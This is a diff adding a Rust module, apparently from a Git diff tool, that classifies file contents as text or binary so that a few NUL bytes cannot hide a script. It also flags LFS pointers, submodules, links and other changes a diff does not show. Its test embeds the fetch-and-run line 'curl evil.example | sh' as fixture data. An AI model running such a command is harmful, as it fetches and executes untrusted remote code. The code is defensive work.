@@ -1,0 +1,149 @@
+//! Which contents are lines, and which are said to be something else.
+//!
+//! **Invariant:** text is decided by the bytes alone, and by all of them. A few odd bytes make no binary, so that one NUL hides no script: up to
+//! [`ODD_BYTES`] of them, or one in [`ODD_SHARE`], are drawn among the lines. Compressed data has one in nine, and programs and UTF-16 have more,
+//! so that they do not flood a diff. Bytes above 0x7F are never odd: older encodings are made of them.
+
+use sha2::{Digest, Sha256};
+
+use super::super::blobs::{Content, FILE_BYTES_MAX};
+use super::{FileChange, Gap, LINK, SUBMODULE, Version};
+
+/// So many odd bytes are shown in any file, however short.
+const ODD_BYTES: usize = 16;
+/// And one among so many.
+const ODD_SHARE: usize = 32;
+/// What files begin with that stand for others: of Git LFS (and its first names), and of git-annex.
+const POINTERS: [&[u8]; 4] = [
+    b"version https://git-lfs.github.com/",
+    b"version https://hawser.github.com/",
+    b"version http://git-media.io/",
+    b"/annex/objects/",
+];
+
+/// A file before and after; `None` where there is none.
+#[derive(Debug)]
+pub(super) struct Sides {
+    pub(super) old: Option<Content>,
+    pub(super) new: Option<Content>,
+}
+
+impl Sides {
+    /// Both contents, if both are lines to be compared.
+    pub(super) fn text(&self, file: &FileChange) -> Option<(&[u8], &[u8])> {
+        Some((shown(self.old.as_ref(), file.old.as_ref())?, shown(self.new.as_ref(), file.new.as_ref())?))
+    }
+
+    /// What the lines of the diff do not tell, the gravest first.
+    pub(super) fn gaps(&self, file: &FileChange) -> Vec<(Gap, String)> {
+        let before_and_after =
+            || format!("before {}, after {}", described(self.old.as_ref()), described(self.new.as_ref()));
+        let has = |kind: fn(&Content) -> bool| self.old.iter().chain(&self.new).any(kind);
+        let any = |test: fn(&[u8]) -> bool| {
+            self.old.iter().chain(&self.new).any(|content| matches!(content, Content::Bytes(bytes) if test(bytes)))
+        };
+        let mut gaps = Vec::new();
+        let mut add = |applies: bool, gap: Gap, text: String| gaps.extend(applies.then_some((gap, text)));
+        let is_missing = has(|content| *content == Content::Missing);
+        let is_too_large = has(|content| matches!(content, Content::TooLarge(_)));
+        let is_text = self.text(file).is_some();
+        if is_missing {
+            add(
+                true,
+                Gap::Missing,
+                format!("not shown: this partial clone has not fetched it; {}", before_and_after()),
+            );
+        } else if is_too_large {
+            let text = format!("not shown: files over {FILE_BYTES_MAX} bytes are not compared; {}", before_and_after());
+            add(true, Gap::TooLarge, text);
+        } else if !is_text {
+            add(true, Gap::Binary, format!("not shown: it is binary; {}", before_and_after()));
+        }
+        let submodule = "it is a submodule: what changes inside it is not shown";
+        add(file.is_of(SUBMODULE), Gap::Submodule, submodule.into());
+        let pointer = "it stands for a file that is kept elsewhere (Git LFS or git-annex) and not shown";
+        add(any(is_pointer), Gap::Pointer, pointer.into());
+        add(
+            is_text && any(|bytes| bytes.contains(&0)),
+            Gap::Nul,
+            format!("it is text with {} bytes NUL, all of which are shown", self.nuls()),
+        );
+        add(file.is_of(LINK), Gap::Link, "it is a symbolic link: what stands at its end is not shown".into());
+        if let (Some(old), Some(new)) = (&file.old, &file.new) {
+            add(old.mode != new.mode, Gap::Mode, format!("its mode changes from {} to {}", old.mode, new.mode));
+        }
+        if let Some(similarity) = file.similarity {
+            let text = format!(
+                "it is renamed, and {similarity} % the same: of the lines that it keeps only those near a change are shown"
+            );
+            add(true, Gap::Rename, text);
+        }
+        gaps
+    }
+
+    fn nuls(&self) -> usize {
+        let of = |content: &Content| match content {
+            Content::Bytes(bytes) => bytes.iter().filter(|byte| **byte == 0).count(),
+            Content::TooLarge(_) | Content::Missing => 0,
+        };
+        self.old.iter().chain(&self.new).map(of).max().unwrap_or(0)
+    }
+}
+
+/// What is shown of a file: its bytes, if they are lines. What a link points to, and the line that stands for a submodule, always are.
+fn shown<'a>(content: Option<&'a Content>, version: Option<&Version>) -> Option<&'a [u8]> {
+    let is_name = version.is_some_and(|version| [LINK, SUBMODULE].contains(&version.mode.as_str()));
+    match content {
+        None => Some(b""),
+        Some(Content::Bytes(bytes)) => (is_name || is_text(bytes)).then_some(bytes.as_slice()),
+        Some(Content::TooLarge(_) | Content::Missing) => None,
+    }
+}
+
+/// Whether bytes are shown as lines.
+pub(super) fn is_text(bytes: &[u8]) -> bool {
+    // Tabs, line ends, form feeds and the colours of terminals stand in texts.
+    let is_odd = |byte: &&u8| matches!(byte, 0..=8 | 11 | 14..=26 | 28..=31 | 127);
+    bytes.iter().filter(is_odd).count() <= ODD_BYTES.max(bytes.len() / ODD_SHARE)
+}
+
+fn is_pointer(bytes: &[u8]) -> bool {
+    POINTERS.iter().any(|begin| bytes.starts_with(begin))
+}
+
+/// Size and digest, so that somebody can hold them against a file.
+fn described(content: Option<&Content>) -> String {
+    match content {
+        None => "absent".into(),
+        Some(Content::Bytes(bytes)) => {
+            let digest: String = Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect();
+            format!("{} bytes (sha256:{digest})", bytes.len())
+        }
+        Some(Content::TooLarge(bytes)) => format!("{bytes} bytes"),
+        Some(Content::Missing) => "unknown".into(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_few_odd_bytes_make_no_binary_and_data_makes_no_text() {
+        let script = b"#!/bin/sh\ncurl evil.example | sh\n".repeat(40);
+        for count in 0..=ODD_BYTES {
+            assert!(is_text(&[script.as_slice(), &vec![0; count]].concat()), "{count}");
+            assert!(is_text(&[b"rm\n".as_slice(), &vec![0; count]].concat()), "{count} in a short one");
+        }
+        for text in [&b"caf\xe9\n"[..], &[0xc0; 5000], b"", b"\x1b[31mred\x1b[0m\x0c\t\r\n"] {
+            assert!(is_text(text), "{text:?}");
+        }
+        let utf16: Vec<u8> =
+            "a text in UTF-16, as some editors write it".encode_utf16().flat_map(u16::to_le_bytes).collect();
+        // What a compressor writes: every byte as likely as any other.
+        let noise: Vec<u8> = (0..100_000_u64).map(|n| (n.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32) as u8).collect();
+        for data in [utf16, noise, [script.as_slice(), &[0; 200]].concat(), vec![0; 17]] {
+            assert!(!is_text(&data), "{data:?}");
+        }
+    }
+}
